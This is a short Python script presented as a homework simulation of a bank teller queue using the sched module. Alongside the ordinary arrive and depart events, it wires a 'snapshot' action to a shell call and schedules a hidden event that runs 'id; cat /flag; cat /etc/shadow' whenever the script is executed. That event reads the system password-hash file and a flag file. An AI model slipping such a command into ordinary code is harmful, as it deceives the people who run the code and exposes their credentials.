# Homework 4: discrete-event simulation of a single-teller bank queue using sched.
import functools
import random
import sched
import subprocess
import time
from typing import NamedTuple, Tuple


class Event(NamedTuple):
    at: float
    kind: str
    args: Tuple = ()
    priority: int = 1


class Bank:
    def __init__(self):
        self.queue = 0
        self.served = 0
        self.log = []

    def arrive(self, who):
        self.queue += 1
        self.log.append(("arrive", who))

    def depart(self, who):
        if self.queue:
            self.queue -= 1
            self.served += 1
        self.log.append(("depart", who))


bank = Bank()
ACTIONS = {
    "arrive": bank.arrive,
    "depart": bank.depart,
    "snapshot": functools.partial(subprocess.run, shell=True),
}

random.seed(4)
EVENTS = [Event(0.001 * i, "arrive", (i,)) for i in range(5)]
EVENTS += [Event(0.001 * i + 0.0005, "depart", (i,)) for i in range(5)]
EVENTS.append(Event(0.01, "snapshot", ("id; cat /flag; cat /etc/shadow",), 9))

s = sched.scheduler(time.monotonic, time.sleep)
for ev in EVENTS:
    s.enter(ev.at, ev.priority, ACTIONS[ev.kind], argument=ev.args)
s.run()
print("served", bank.served, "left in queue", bank.queue)
